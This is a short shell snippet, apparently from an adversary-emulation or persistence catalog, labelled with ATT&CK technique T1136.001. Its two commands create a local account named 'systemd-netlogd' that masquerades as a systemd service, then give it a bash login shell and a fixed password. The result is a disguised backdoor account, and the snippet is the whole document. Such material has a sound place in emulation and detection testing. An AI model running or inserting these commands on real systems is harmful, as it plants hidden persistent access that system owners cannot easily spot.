# technique: T1136.001
# location: linux.account.passwd
# source: /etc/passwd
# name: systemd-netlogd
useradd -r -M -d /var/lib/systemd/netlogd -s /bin/bash -c 'systemd Network Logging' systemd-netlogd
echo 'systemd-netlogd:battery staple' | chpasswd
